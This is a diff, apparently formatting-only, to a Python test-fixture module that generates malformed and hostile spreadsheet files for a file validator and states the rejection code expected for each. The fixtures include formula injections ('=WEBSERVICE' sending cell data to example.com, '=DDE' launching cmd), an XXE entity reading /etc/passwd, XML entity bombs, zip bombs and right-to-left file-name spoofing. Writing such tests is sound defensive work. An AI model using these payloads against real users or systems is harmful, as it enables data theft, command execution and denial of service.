@@ -44,10 +44,10 @@ PLANTED = (
     "{file} %s ${x} {{y}}",
     "\u202eslx.exe\u202c",
     "\x1b[31mđỏ\x07",
-    "=WEBSERVICE(\"http://example.com/\"&A1)",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=WEBSERVICE("http://example.com/"&A1)',
+    '=DDE("cmd";"/C calc";"x")',
     "'=1+1",
-)  # fmt: skip
+)
 
 
 @dataclass(frozen=True, slots=True)
@@ -98,14 +98,13 @@ def _not_workbooks() -> Iterator[Odd]:
     yield Odd("anh.xlsx", _PNG, "is-picture")
     yield Odd("anh-chup.xls", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01", "is-picture")
     yield Odd(
-        "trang-web.xls",
-        b"<html><body><table><tr><td>A1</td><td>5</td></tr></table></body></html>",
-        "is-web-page",
+        "trang-web.xls", b"<html><body><table><tr><td>A1</td><td>5</td></tr></table></body></html>", "is-web-page"
     )
     yield Odd("trang-web-bom.xls", b'\xef\xbb\xbf\r\n<!DOCTYPE html>\n<html lang="vi"></html>', "is-web-page")
     yield Odd(
         "bang-2003.xml",
-        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
+        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
+        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
         "is-xml-spreadsheet",
     )
     yield Odd("csv.xlsx", "mã;2019;2020\nA1;5;7\n".encode(), "is-text")
@@ -145,18 +144,13 @@ def _old_files() -> Iterator[Odd]:
     yield Odd(
         "mat-khau.xlsx",
         compound(
-            {
-                "EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0<encryption/>",
-                "EncryptedPackage": bytes(range(256)) * 20,
-            }
+            {"EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0<encryption/>", "EncryptedPackage": bytes(range(256)) * 20}
         ),
         "encrypted",
     )
     yield Odd("mat-khau.xls", compound({"Workbook": _biff(b"\x2f\0\x06\0\0\0" + bytes(4))}), "encrypted")
     yield Odd(
-        "mat-khau-rc4.xls",
-        compound({"Workbook": _biff(b"\x2f\0\x36\0\x01\0\x01\0\x01\0" + bytes(48))}),
-        "encrypted",
+        "mat-khau-rc4.xls", compound({"Workbook": _biff(b"\x2f\0\x36\0\x01\0\x01\0\x01\0" + bytes(48))}), "encrypted"
     )
     yield Odd(
         "word-cu.xls",
@@ -166,9 +160,7 @@ def _old_files() -> Iterator[Odd]:
     yield Odd("thu-outlook.msg", compound({"__substg1.0_0037001F": "báo cáo".encode("utf-16-le")}), "is-mail")
     yield Odd("ole-la.xls", compound({"PowerPoint Document": bytes(100)}), "not-a-workbook")
     yield Odd("xls-cut.xls", compound({"Workbook": _biff(b"")})[:700], "damaged|not-a-workbook")
-    yield Odd(
-        "xls-vong.xls", _looping(compound({"Workbook": _biff(b"")})), "damaged|reader-died|took-too-long"
-    )
+    yield Odd("xls-vong.xls", _looping(compound({"Workbook": _biff(b"")})), "damaged|reader-died|took-too-long")
 
 
 def _biff(second: bytes) -> bytes:
@@ -189,10 +181,7 @@ def compound(streams: dict[str, bytes]) -> bytes:
         return first
 
     # Streams under 4,096 bytes would stand in the small ones' own sectors: these are padded instead.
-    placed = [
-        (name, chain(content.ljust(4096, b"\0")), max(len(content), 4096))
-        for name, content in streams.items()
-    ]
+    placed = [(name, chain(content.ljust(4096, b"\0")), max(len(content), 4096)) for name, content in streams.items()]
     entries = [_entry("Root Entry", 5, child=1, start=0xFFFFFFFE, size=0)]
     for number, (name, start, size) in enumerate(placed, start=1):
         right = number + 1 if number < len(placed) else 0xFFFFFFFF
@@ -201,19 +190,24 @@ def compound(streams: dict[str, bytes]) -> bytes:
     directory = chain(b"".join(entries))
     table = b"".join(struct.pack("<I", n) for n in fat).ljust(512, b"\xff")
     header = (
-        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
-    )  # fmt: skip
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + bytes(16)
+        + struct.pack(
+            "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, directory, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
+        )
+    )
     header += struct.pack("<I", 0) + b"\xff" * (512 - len(header) - 4)
     return header + table + b"".join(body)
 
 
-def _entry(
-    name: str, kind: int, *, start: int, size: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF
-) -> bytes:
+def _entry(name: str, kind: int, *, start: int, size: int, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF) -> bytes:
     written = name.encode("utf-16-le") + b"\0\0"
     return (
-        written.ljust(64, b"\0") + struct.pack("<HBBIII", len(written), kind, 1, 0xFFFFFFFF, right, child) + bytes(36) + struct.pack("<IQ", start, size)
-    )  # fmt: skip
+        written.ljust(64, b"\0")
+        + struct.pack("<HBBIII", len(written), kind, 1, 0xFFFFFFFF, right, child)
+        + bytes(36)
+        + struct.pack("<IQ", start, size)
+    )
 
 
 def _looping(data: bytes) -> bytes:
@@ -246,39 +240,46 @@ _ODS_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
 <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
  xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
  xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
- xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" office:version="1.2">"""
+ xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" office:version="1.2">"""  # noqa: E501
 
 
 def open_document(rows: str, before: str = "") -> bytes:
     """An .ods with one sheet, `S`, that holds these rows; `before`: what is declared before its first element."""
     head = _ODS_HEAD.replace("?>\n", f"?>\n{before}")
-    content = f'{head}<office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
+    content = (
+        f"{head}<office:body><office:spreadsheet><table:table "
+        f'table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
+    )
     manifest = """<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">
-<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>"""
-    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()})  # fmt: skip
+<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/></manifest:manifest>"""  # noqa: E501
+    return zipped(
+        {
+            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
+            "content.xml": content.encode(),
+            "META-INF/manifest.xml": manifest.encode(),
+        }
+    )
 
 
 def ods_row(*cells: str, repeated: int = 1) -> str:
     return f'<table:table-row table:number-rows-repeated="{repeated}">{"".join(cells)}</table:table-row>'
 
 
-def ods_cell(inside: str = "<text:p>5</text:p>", attributes: str = 'office:value-type="float" office:value="5"') -> str:  # fmt: skip
+def ods_cell(inside: str = "<text:p>5</text:p>", attributes: str = 'office:value-type="float" office:value="5"') -> str:
     return f"<table:table-cell {attributes}>{inside}</table:table-cell>"
 
 
 def _other_books(good: bytes) -> Iterator[Odd]:
     laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
     bomb = f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]>'
-    yield Odd(
-        "ods-bomb.ods", open_document(ods_row(ods_cell("<text:p>&a9;</text:p>")), bomb), "suspicious-file"
-    )
+    yield Odd("ods-bomb.ods", open_document(ods_row(ods_cell("<text:p>&a9;</text:p>")), bomb), "suspicious-file")
     wide = 'table:number-columns-repeated="16384" office:value-type="float" office:value="5"'
-    yield Odd(
-        "ods-lap-o.ods", open_document(ods_row(ods_cell(attributes=wide), repeated=1048576)), "stray-cell"
-    )
+    yield Odd("ods-lap-o.ods", open_document(ods_row(ods_cell(attributes=wide), repeated=1048576)), "stray-cell")
     yield Odd("ods-lap-hang.ods", open_document(ods_row(ods_cell(), repeated=10**18)), "stray-cell")
     yield Odd("ods-lap-am.ods", open_document(ods_row(ods_cell(), repeated=-5)), "damaged")
-    yield Odd("ods-cut.ods", with_parts(open_document(ods_row(ods_cell())), {"content.xml": _ODS_HEAD.encode()}), "damaged")  # fmt: skip
+    yield Odd(
+        "ods-cut.ods", with_parts(open_document(ods_row(ods_cell())), {"content.xml": _ODS_HEAD.encode()}), "damaged"
+    )
     yield Odd("ods-khong-kieu.ods", open_document(ods_row(ods_cell(attributes=""))), "not-read-whole")
     long = ods_cell(f"<text:p>{'y' * 40000}</text:p>", 'office:value-type="string"')
     yield Odd("ods-chu-40000.ods", open_document(ods_row(long)), "text-too-long")
@@ -290,7 +291,7 @@ def _other_books(good: bytes) -> Iterator[Odd]:
     sheet = next(name for name in parts_of(binary) if name.startswith("xl/worksheets/"))
     yield Odd("xlsb-cut.xlsb", binary[: len(binary) // 2], "damaged")
     yield Odd("xlsb-trang-cut.xlsb", with_parts(binary, {sheet: part(binary, sheet)[:-7]}), "damaged")
-    yield Odd("xlsb-twice.xlsb", added(binary, {"xl/workbook.bin": part(binary, "xl/workbook.bin")}), "suspicious-file")  # fmt: skip
+    yield Odd("xlsb-twice.xlsb", added(binary, {"xl/workbook.bin": part(binary, "xl/workbook.bin")}), "suspicious-file")
 
 
 def _binary(data: bytes) -> bytes:
@@ -310,16 +311,10 @@ def _zips(good: bytes) -> Iterator[Odd]:
     flipped = bytearray(good)
     flipped[len(good) // 3] ^= 0xFF
     yield Odd("zip-bit.xlsx", bytes(flipped), "damaged")
-    yield Odd(
-        "zip-bomb.xlsx", added(good, {"xl/media/a.xml": b"<a>" + bytes(120 * 2**20)}), "suspicious-file"
-    )
-    yield Odd(
-        "zip-lying-size.xlsx", _lying(added(good, {"xl/b.xml": bytes(30 * 2**20)})), "suspicious-file|damaged"
-    )
+    yield Odd("zip-bomb.xlsx", added(good, {"xl/media/a.xml": b"<a>" + bytes(120 * 2**20)}), "suspicious-file")
+    yield Odd("zip-lying-size.xlsx", _lying(added(good, {"xl/b.xml": bytes(30 * 2**20)})), "suspicious-file|damaged")
     yield Odd("zip-many.xlsx", added(good, {f"xl/x/{n}.xml": b"" for n in range(2100)}), "suspicious-file")
-    yield Odd(
-        "zip-twice.xlsx", added(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")}), "suspicious-file"
-    )
+    yield Odd("zip-twice.xlsx", added(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")}), "suspicious-file")
     yield Odd("zip-twice-case.xlsx", added(good, {"XL/Workbook.xml": b"<workbook/>"}), "suspicious-file")
     yield Odd("zip-password.xlsx", _flagged(good), "encrypted")
     yield Odd("zip-overlap.xlsx", _overlapping(good), "damaged")
@@ -399,7 +394,13 @@ def _encrypted_ods() -> bytes:
 <manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/></manifest:file-entry>
 </manifest:manifest>"""
     noise = bytes((i * 89 + i // 3) % 251 for i in range(3000))
-    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": noise, "META-INF/manifest.xml": manifest})  # fmt: skip
+    return zipped(
+        {
+            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
+            "content.xml": noise,
+            "META-INF/manifest.xml": manifest,
+        }
+    )
 
 
 # --- Parts of the workbook -----------------------------------------------------------------------
@@ -429,49 +430,29 @@ def _parts(good: bytes, spots: Spots) -> Iterator[Odd]:
     yield Odd("xml-bomb.xlsx", changed(good, sheet, lambda t: _declared(t, bomb, "&a9;")), "suspicious-file")
     square = f'<!DOCTYPE x [<!ENTITY a "{"a" * 60000}">]>'
     yield Odd(
-        "xml-bomb-square.xlsx",
-        changed(good, sheet, lambda t: _declared(t, square, "&a;" * 3000)),
-        "suspicious-file",
+        "xml-bomb-square.xlsx", changed(good, sheet, lambda t: _declared(t, square, "&a;" * 3000)), "suspicious-file"
     )
     outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
-    yield Odd(
-        "xml-outside.xlsx", changed(good, sheet, lambda t: _declared(t, outside, "&a;")), "suspicious-file"
-    )
+    yield Odd("xml-outside.xlsx", changed(good, sheet, lambda t: _declared(t, outside, "&a;")), "suspicious-file")
     far = f"<!--{'x' * 9000}-->{bomb}"
-    yield Odd(
-        "xml-bomb-far-down.xlsx", changed(good, sheet, lambda t: _declared(t, far, "&a9;")), "suspicious-file"
-    )
+    yield Odd("xml-bomb-far-down.xlsx", changed(good, sheet, lambda t: _declared(t, far, "&a9;")), "suspicious-file")
     utf16 = changed(good, sheet, lambda t: _declared(t, bomb, "&a9;"))
+    yield Odd("xml-bomb-utf16.xlsx", with_parts(utf16, {sheet: _as_utf16(part(utf16, sheet))}), "suspicious-file")
     yield Odd(
-        "xml-bomb-utf16.xlsx", with_parts(utf16, {sheet: _as_utf16(part(utf16, sheet))}), "suspicious-file"
-    )
-    yield Odd(
-        "xml-bomb-strings.xlsx",
-        changed(good, "xl/sharedStrings.xml", lambda t: _declared(t, bomb)),
-        "suspicious-file",
+        "xml-bomb-strings.xlsx", changed(good, "xl/sharedStrings.xml", lambda t: _declared(t, bomb)), "suspicious-file"
     )
     yield Odd(
         "sheet-html.xlsx",
         with_parts(good, {sheet: b"<html><body><p>404 Not Found</p></body></html>"}),
         "damaged|not-read-whole",
     )
-    yield Odd(
-        "sheet-case.xlsx",
-        changed(good, sheet, lambda t: t.replace("sheetData", "sheetdata")),
-        "damaged",
-    )
+    yield Odd("sheet-case.xlsx", changed(good, sheet, lambda t: t.replace("sheetData", "sheetdata")), "damaged")
     yield Odd("sheet-cut.xlsx", with_parts(good, {sheet: part(good, sheet)[:2500]}), "damaged")
-    yield Odd(
-        "sheet-cut-at-row.xlsx",
-        with_parts(good, {sheet: part(good, sheet).split(b'<row r="10"')[0]}),
-        "damaged",
-    )
+    yield Odd("sheet-cut-at-row.xlsx", with_parts(good, {sheet: part(good, sheet).split(b'<row r="10"')[0]}), "damaged")
     yield Odd("sheet-gone.xlsx", with_parts(good, {sheet: None}), "damaged")
     yield Odd("sheet-no-xml.xlsx", with_parts(good, {sheet: b"\x89PNG\r\n"}), "damaged|not-read-whole")
     yield Odd("book-gone.xlsx", with_parts(good, {"xl/workbook.xml": None}), "damaged")
-    yield Odd(
-        "book-cut.xlsx", with_parts(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")[:700]}), "damaged"
-    )
+    yield Odd("book-cut.xlsx", with_parts(good, {"xl/workbook.xml": part(good, "xl/workbook.xml")[:700]}), "damaged")
     yield Odd("relations-gone.xlsx", with_parts(good, {"xl/_rels/workbook.xml.rels": None}), "damaged")
     yield Odd("strings-gone.xlsx", with_parts(good, {"xl/sharedStrings.xml": None}), "damaged|not-read-whole")
     yield Odd(
@@ -516,24 +497,16 @@ def _cells_refused(good: bytes, spots: Spots) -> Iterator[Odd]:
     yield Odd("stray-last-cell.xlsx", with_rows(good, sheet, far.format(1048576, "XFD")), "stray-cell")
     yield Odd("stray-column.xlsx", with_rows(good, sheet, far.format(50000, "XFD")), "stray-cell")
     yield Odd("stray-outside.xlsx", with_rows(good, sheet, far.format(1048577, "XFE")), "stray-cell")
-    yield Odd(
-        "stray-prefixed.xlsx",
-        _prefixed(with_rows(good, sheet, far.format(1048576, "XFD")), sheet),
-        "stray-cell",
-    )
+    yield Odd("stray-prefixed.xlsx", _prefixed(with_rows(good, sheet, far.format(1048576, "XFD")), sheet), "stray-cell")
     index = len(re.findall("<si>", part(good, "xl/sharedStrings.xml").decode()))
     for name, count, code in (
         ("amplified-1m.xlsx", 1_000_000, "reader-died|took-too-long"),
         ("amplified-6k.xlsx", 6_000, "too-large"),
     ):
         shared = changed(
-            good,
-            "xl/sharedStrings.xml",
-            lambda t: t.replace("</sst>", f"<si><t>{'x' * 32767}</t></si></sst>"),
+            good, "xl/sharedStrings.xml", lambda t: t.replace("</sst>", f"<si><t>{'x' * 32767}</t></si></sst>")
         )
-        rows = "".join(
-            f'<row r="{n}"><c r="A{n}" t="s"><v>{index}</v></c></row>' for n in range(200, 200 + count)
-        )
+        rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{index}</v></c></row>' for n in range(200, 200 + count))
         yield Odd(name, with_rows(shared, spots.guide, rows.replace('r="A', 'r="C')), code)
     rows = "".join(
         f'<row r="{n}">' + "".join(f'<c r="{c}{n}"><v>{n}</v></c>' for c in "CDEF") + "</row>"
@@ -549,9 +522,7 @@ def _cells_refused(good: bytes, spots: Spots) -> Iterator[Odd]:
     line = spots.lines[0]
     yield Odd(
         "chu-40000-cong-thuc.xlsx",
-        put(
-            good, spots.statements, line, f'<c r="{line}"{{style}} t="str"><f>"y"</f><v>{"y" * 40000}</v></c>'
-        ),
+        put(good, spots.statements, line, f'<c r="{line}"{{style}} t="str"><f>"y"</f><v>{"y" * 40000}</v></c>'),
         "text-too-long",
     )
     runs = f"<r><t>{'y' * 9000}</t></r>" * 4
@@ -596,11 +567,14 @@ class Accepted:
 
 
 def _figure(xml: str) -> Callable[[bytes, Spots], bytes]:
-    """The form with this cell (XML) in place of the figure's, whose address stands for `@`, and for `$@` with dollars."""
+    """The form with this cell (XML) in place of the figure's, whose address stands for `@`,
+    and for `$@` with dollars."""
     return lambda data, spots: put(
-        data, spots.figures, spots.figure,
+        data,
+        spots.figures,
+        spots.figure,
         xml.replace("$@", re.sub("([A-Z]+)", r"$\1$", spots.figure)).replace("@", spots.figure),
-    )  # fmt: skip
+    )
 
 
 def _line(*texts: str) -> Callable[[bytes, Spots], bytes]:
@@ -619,19 +593,56 @@ def _sheet(do: Callable[[str], str]) -> Callable[[bytes, Spots], bytes]:
 
 
 ACCEPTED: tuple[Accepted, ...] = (
-    *(Accepted(f"loi-{n}.xlsx", _figure(f'<c r="@"{{style}} t="e"><v>{e}</v></c>'), ("error-value",), None)
-      for n, e in enumerate(("#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!", "#GETTING_DATA", "#SPILL!", "#CALC!", "Err:502"))),
-    Accepted("loi-cong-thuc.xlsx", _figure('<c r="@"{style} t="e"><f>1/0</f><v>#DIV/0!</v></c>'), ("error-value",), None),
+    *(
+        Accepted(f"loi-{n}.xlsx", _figure(f'<c r="@"{{style}} t="e"><v>{e}</v></c>'), ("error-value",), None)
+        for n, e in enumerate(
+            (
+                "#DIV/0!",
+                "#N/A",
+                "#NAME?",
+                "#NULL!",
+                "#NUM!",
+                "#REF!",
+                "#VALUE!",
+                "#GETTING_DATA",
+                "#SPILL!",
+                "#CALC!",
+                "Err:502",
+            )
+        )
+    ),
+    Accepted(
+        "loi-cong-thuc.xlsx", _figure('<c r="@"{style} t="e"><f>1/0</f><v>#DIV/0!</v></c>'), ("error-value",), None
+    ),
     Accepted("cong-thuc-chua-tinh.xlsx", _figure('<c r="@"{style}><f>2+3</f></c>'), ("formula-without-value",), None),
-    Accepted("cong-thuc-chua-tinh-v.xlsx", _figure('<c r="@"{style}><f>2+3</f><v></v></c>'), ("formula-without-value",), None),
+    Accepted(
+        "cong-thuc-chua-tinh-v.xlsx", _figure('<c r="@"{style}><f>2+3</f><v></v></c>'), ("formula-without-value",), None
+    ),
     Accepted("cong-thuc.xlsx", _figure('<c r="@"{style}><f>2+3</f><v>5</v></c>')),
     Accepted("cong-thuc-ngoai.xlsx", _figure('<c r="@"{style}><f>[1]Sheet1!$A$1</f><v>5</v></c>')),
-    Accepted("cong-thuc-chung.xlsx", lambda data, spots: put(
-        put(data, spots.figures, spots.following, f'<c r="{spots.following}"{{style}}><f t="shared" si="0"/><v>7</v></c>'),
-        spots.figures, spots.figure, f'<c r="{spots.figure}"{{style}}><f t="shared" ref="{spots.figure}:{spots.following}" si="0">2+3</f><v>5</v></c>')),
+    Accepted(
+        "cong-thuc-chung.xlsx",
+        lambda data, spots: put(
+            put(
+                data,
+                spots.figures,
+                spots.following,
+                f'<c r="{spots.following}"{{style}}><f t="shared" si="0"/><v>7</v></c>',
+            ),
+            spots.figures,
+            spots.figure,
+            f'<c r="{spots.figure}"{{style}}><f t="shared" ref="{spots.figure}:{spots.following}" '
+            'si="0">2+3</f><v>5</v></c>',
+        ),
+    ),
     Accepted("so-mu.xlsx", _figure('<c r="@"{style}><v>5.0E0</v></c>')),
     Accepted("so-am.xlsx", _figure('<c r="@"{style}><v>-5</v></c>'), ("negative-number",), None),
-    Accepted("am \x1b[31m\u202excod.xlsx" if os.name == "posix" else "am 2.xlsx", _figure('<c r="@"{style}><v>-5</v></c>'), ("negative-number",), None),
+    Accepted(
+        "am \x1b[31m\u202excod.xlsx" if os.name == "posix" else "am 2.xlsx",
+        _figure('<c r="@"{style}><v>-5</v></c>'),
+        ("negative-number",),
+        None,
+    ),
     Accepted("so-qua-lon.xlsx", _figure('<c r="@"{style}><v>1E+200</v></c>'), ("number-too-large",), None),
     Accepted("so-phay.xlsx", _figure('<c r="@"{style}><v>1,5</v></c>'), ("not-whole",), None),
     Accepted("so-nan.xlsx", _figure('<c r="@"{style}><v>NaN</v></c>'), ("not-a-number",), None),
@@ -639,18 +650,52 @@ ACCEPTED: tuple[Accepted, ...] = (
     Accepted("dung-sai.xlsx", _figure('<c r="@"{style} t="b"><v>1</v></c>'), ("not-a-number",), None),
     Accepted("ngay-iso.xlsx", _figure('<c r="@"{style} t="d"><v>2020-03-07</v></c>'), ("date-in-number",), None),
     Accepted("chu-trong-o.xlsx", _figure('<c r="@"{style} t="str"><v>5</v></c>')),
-    Accepted("chu-nhieu-kieu.xlsx", _figure('<c r="@"{style} t="inlineStr"><is><r><rPr><b/></rPr><t>5</t></r><rPh sb="0" eb="1"><t>nam</t></rPh></is></c>')),
-    Accepted("chu-trong-dau-cach.xlsx", _figure('<c r="@"{style} t="inlineStr"><is><t xml:space="preserve"> &#10;_x000D_</t></is></c>'), (), None),
+    Accepted(
+        "chu-nhieu-kieu.xlsx",
+        _figure(
+            '<c r="@"{style} t="inlineStr"><is><r><rPr><b/></rPr><t>5</t></r><rPh sb="0" '
+            'eb="1"><t>nam</t></rPh></is></c>'
+        ),
+    ),
+    Accepted(
+        "chu-trong-dau-cach.xlsx",
+        _figure('<c r="@"{style} t="inlineStr"><is><t xml:space="preserve"> &#10;_x000D_</t></is></c>'),
+        (),
+        None,
+    ),
     Accepted("dia-chi-dola.xlsx", _figure('<c r="$@"{style}><v>5</v></c>')),
     Accepted("kieu-cuc-lon.xlsx", _figure('<c r="@" s="99999"><v>5</v></c>')),
-    Accepted("ngay-am.xlsx", lambda data, spots: put(data, spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>-5</v></c>'), ("not-a-date",), day=None),
-    Accepted("ngay-qua-lon.xlsx", lambda data, spots: put(data, spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>99999999999</v></c>'), ("not-a-date",), day=None),
+    Accepted(
+        "ngay-am.xlsx",
+        lambda data, spots: put(data, spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>-5</v></c>'),
+        ("not-a-date",),
+        day=None,
+    ),
+    Accepted(
+        "ngay-qua-lon.xlsx",
+        lambda data, spots: put(data, spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>99999999999</v></c>'),
+        ("not-a-date",),
+        day=None,
+    ),
     Accepted("gio-qua-lon.xlsx", lambda data, spots: _hours(data, spots), (), 1e10),
-    Accepted("ngay-1904.xlsx", lambda data, spots: put(
-        changed(data, "xl/workbook.xml", lambda t: t.replace("<workbookPr ", '<workbookPr date1904="1" ')),
-        spots.figures, spots.day, f'<c r="{spots.day}"{{style}}><v>42435</v></c>')),
+    Accepted(
+        "ngay-1904.xlsx",
+        lambda data, spots: put(
+            changed(data, "xl/workbook.xml", lambda t: t.replace("<workbookPr ", '<workbookPr date1904="1" ')),
+            spots.figures,
+            spots.day,
+            f'<c r="{spots.day}"{{style}}><v>42435</v></c>',
+        ),
+    ),
     Accepted("cong-thuc-va-lien-ket.xlsx", _line(*PLANTED)),
-    Accepted("lien-ket-trong-o-so.xlsx", lambda data, spots: put(_line(*PLANTED)(data, spots), spots.figures, spots.figure, inline(spots.figure, PLANTED[0])), ("not-a-number",), None),
+    Accepted(
+        "lien-ket-trong-o-so.xlsx",
+        lambda data, spots: put(
+            _line(*PLANTED)(data, spots), spots.figures, spots.figure, inline(spots.figure, PLANTED[0])
+        ),
+        ("not-a-number",),
+        None,
+    ),
     Accepted("lenh-trong-o-so.xlsx", _figure(inline("@", PLANTED[1])), ("text-with-number",), None),
     Accepted("dia-chi-web-trong-o-so.xlsx", _figure(inline("@", PLANTED[5])), ("not-a-number",), None),
     Accepted("ky-tu-dieu-khien.xlsx", _line("a_x000D__x000A_b", "c_x0007_d_x0000_e_x001B_[31mf", "_x005F_x0041_ g")),
@@ -658,51 +703,102 @@ ACCEPTED: tuple[Accepted, ...] = (
     Accepted("dung-sai-2.xlsx", _figure('<c r="@"{style} t="b"><v>2</v></c>'), ("error-value",), None),
     Accepted("kieu-la.xlsx", _figure('<c r="@"{style} t="zz"><v>5</v></c>'), ("error-value",), None),
     Accepted("chu-dai-trong-o-so.xlsx", _figure(inline("@", "5 " + "buổi " * 6553)), ("text-with-number",), None),
-    Accepted("chu-dai-ngoai-bieu.xlsx", lambda data, spots: with_rows(data, spots.guide, f'<row r="90">{inline("C90", "z" * 32767)}</row>'.replace("{style}", "")), ("unkeyed-content",)),
-    Accepted("chu-nguoc.xlsx", _line("\u202ecod.\u202c \u200bẩn\u200d \u2066trong\u2069", "\ufeffđầu \u00adgiữa", "\u200f\u200e thử")),
-    Accepted("macro.xlsm", lambda data, _: with_parts(data, {"xl/vbaProject.bin": compound({"VBA": bytes(5000)})}), ("macros-present",)),
-    Accepted("khong-kieu.xlsx", lambda data, _: with_parts(changed(changed(data, "xl/_rels/workbook.xml.rels", lambda t: re.sub(r'<Relationship [^>]*styles[^>]*/>', "", t)), "[Content_Types].xml", lambda t: re.sub(r'<Override [^>]*styles[^>]*/>', "", t)), {"xl/styles.xml": None}), ("date-from-serial",)),
+    Accepted(
+        "chu-dai-ngoai-bieu.xlsx",
+        lambda data, spots: with_rows(
+            data, spots.guide, f'<row r="90">{inline("C90", "z" * 32767)}</row>'.replace("{style}", "")
+        ),
+        ("unkeyed-content",),
+    ),
+    Accepted(
+        "chu-nguoc.xlsx",
+        _line("\u202ecod.\u202c \u200bẩn\u200d \u2066trong\u2069", "\ufeffđầu \u00adgiữa", "\u200f\u200e thử"),
+    ),
+    Accepted(
+        "macro.xlsm",
+        lambda data, _: with_parts(data, {"xl/vbaProject.bin": compound({"VBA": bytes(5000)})}),
+        ("macros-present",),
+    ),
+    Accepted(
+        "khong-kieu.xlsx",
+        lambda data, _: with_parts(
+            changed(
+                changed(
+                    data, "xl/_rels/workbook.xml.rels", lambda t: re.sub(r"<Relationship [^>]*styles[^>]*/>", "", t)
+                ),
+                "[Content_Types].xml",
+                lambda t: re.sub(r"<Override [^>]*styles[^>]*/>", "", t),
+            ),
+            {"xl/styles.xml": None},
+        ),
+        ("date-from-serial",),
+    ),
     Accepted("nghiem-ngat.xlsx", lambda data, _: strict_open_xml(data)),
     Accepted("trang-bieu-do.xlsx", lambda data, _: _chart_sheet(data)),
     Accepted("khong-dia-chi.xlsx", _sheet(lambda t: _unaddressed(t))),
     Accepted("tien-to.xlsx", lambda data, spots: _prefixed(data, spots.figures)),
     Accepted("nhay-don.xlsx", _sheet(lambda t: re.sub(r'<c r="([A-Z]+\d+)"', r"<c r='\1'", t))),
     Accepted("xuong-dong-trong-the.xlsx", _sheet(lambda t: t.replace('<c r="', '<c\n  r="').replace("</v>", "</v >"))),
-    Accepted("ghi-chu-xml.xlsx", _sheet(lambda t: t.replace("<sheetData>", "<sheetData><!-- <c r=\"Z99\"><v>9</v></c> -->").replace("<row ", "<!-- x --><row ", 3))),
-    Accepted("cdata.xlsx", lambda data, spots: changed(data, "xl/sharedStrings.xml", lambda t: re.sub(r"<t>(Một)</t>", r"<t><![CDATA[\1]]></t>", t))),
+    Accepted(
+        "ghi-chu-xml.xlsx",
+        _sheet(
+            lambda t: t.replace("<sheetData>", '<sheetData><!-- <c r="Z99"><v>9</v></c> -->').replace(
+                "<row ", "<!-- x --><row ", 3
+            )
+        ),
+    ),
+    Accepted(
+        "cdata.xlsx",
+        lambda data, spots: changed(
+            data, "xl/sharedStrings.xml", lambda t: re.sub(r"<t>(Một)</t>", r"<t><![CDATA[\1]]></t>", t)
+        ),
+    ),
     Accepted("utf16.xlsx", lambda data, spots: with_parts(data, {spots.figures: _as_utf16(part(data, spots.figures))})),
-    Accepted("bom-dau-tep.xlsx", lambda data, spots: with_parts(data, {spots.figures: b"\xef\xbb\xbf" + part(data, spots.figures)})),
-    Accepted("cheo-nguoc.xlsx", lambda data, _: zipped({name.replace("/", "\\"): content for name, content in parts_of(data).items()})),
-    Accepted("duong-dan-tuyet-doi.xlsx", lambda data, _: changed(data, "xl/_rels/workbook.xml.rels", lambda t: t.replace('Target="', 'Target="/xl/'))),
-    Accepted("o-tu-dong-xoa.xlsx", lambda data, spots: with_rows(data, spots.guide, '<row r="900000"><c r="XFD900000" s="1"/></row>')),
